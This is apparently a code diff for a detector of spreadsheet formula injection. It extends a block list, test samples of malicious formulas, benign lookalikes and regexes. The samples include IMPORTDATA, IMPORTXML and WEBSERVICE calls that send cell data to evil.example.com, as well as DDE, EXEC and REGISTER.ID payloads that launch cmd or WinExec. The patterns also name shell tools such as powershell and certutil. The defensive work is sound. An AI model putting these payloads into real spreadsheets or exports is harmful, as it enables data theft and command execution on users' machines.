@@ -37,6 +37,7 @@ export const formula: ValueRule = {
         '=exec(',
         '=call(',
         '=register(',
+        'register.id(',
       ],
     ],
   },
@@ -50,6 +51,9 @@ export const formula: ValueRule = {
     'Anna,=IMPORTDATA("http://evil.example.com/?q="&C2:C9),5',
     '=DDE("cmd";"/C calc";"x")',
     '=EXEC("cmd.exe /c calc")',
+    '=IMPORTXML("http://evil.example.com/","//a")',
+    '=_xlfn.WEBSERVICE("http://evil.example.com/")',
+    '=REGISTER.ID("kernel32","WinExec")',
   ],
   lookalikes: [
     '=SUM(A1:A3)*2',
@@ -57,6 +61,11 @@ export const formula: ValueRule = {
     '=IF(A1>5,"yes","no")&" of "&B2',
     'How do I use =WEBSERVICE("https://example.com/"&A1) in a sheet?',
     '-5+3',
+    '=IMAGE("https://www.example.com/logo.png")',
+    'Use =IMPORTXML("https://www.example.com/","//h1") to read a page.',
+    '=IMPORTRANGE(A1,"B2:C3")',
+    { body: { formula: '=IMPORTXML("https://www.example.com/prices","//td")' } },
+    { body: { cells: [['=WEBSERVICE("https://www.example.com/rate")']] } },
     '=VLOOKUP(A2,Sheet2!A:B,2,FALSE)',
     "='My sheet'!A1",
     '@anna +1 | see cmd | and more',
@@ -85,7 +94,11 @@ function judge(subject: Subject): Match | undefined {
     const end = match.index + match[0].length;
     if (runs.test(rest)) return { start, end, score: confidence.strong };
     const outside = rest.replace(literal, '""');
-    if (target.test(rest) && (joined.test(outside) || gathers.test(outside))) {
+    if (!target.test(rest)) continue;
+    const isSent = joined.test(outside) || gathers.test(outside);
+    // A cell that is nothing but a call which fetches by itself: links and pictures are shown.
+    const isCell = start === 0 && !sheetMember.test(subject.member);
+    if (isSent || (isCell && fetches.test(rest))) {
       return { start, end: Math.min(text.length, end + 60) };
     }
   }
@@ -107,13 +120,17 @@ function cellStart(text: string, call: number): number {
 
 const cellEdges = ',;\t\n"';
 /** From the edge of a cell to a call in it. */
-const cell = /(?:^|[,;\t\n"]) {0,2}[=+@-][A-Za-z0-9(.,<>=+*/&-]{0,40}$/;
+const cell = /(?:^|[,;\t\n"]) {0,2}[=+@-][\w(.,<>=+*/&-]{0,40}$/;
 const dynamicExchange =
   /(?:^|[,;\t\n"]) {0,2}[=+@-](?:[\w+*/().-]{0,24}[+*/=(-])?(?:cmd|msexcel|excel|winword|powershell|mshta|rundll32|regsvr32|wscript|cscript|certutil|calc|[a-z]:\\[\w\\.]{1,40})(?:\.exe)?\|['" /\\]/i;
 const reaching =
-  /\b(?:hyperlink|webservice|import(?:xml|data|feed|html|range)|image|dde|exec|call|register) {0,2}\(/gi;
+  /\b(?:hyperlink|webservice|import(?:xml|data|feed|html|range)|image|dde|exec|call|register(?:\.id)?) {0,2}\(/gi;
 /** Calls that run something by themselves. */
-const runs = /^(?:dde|exec|call|register) {0,2}\( {0,2}"/i;
+const runs = /^(?:dde|exec|call|register(?:\.id)?) {0,2}\( {0,2}"/i;
+/** Where the client of a spreadsheet writes the formulas of its user. */
+const sheetMember = /formula|cell|expression|(?:^|[._[])(?:values|rows|range)\b/i;
+/** Calls that ask another machine when the sheet is opened. */
+const fetches = /^(?:webservice|import(?:xml|data|feed|html|range)) {0,2}\(/i;
 const literal = /"[^"\n]{0,120}"/g;
 const target = /"(?:https?:|ftp:|\/\/|\\\\)/i;
 /** A cell that is appended: `&A1`, `A1&`. */
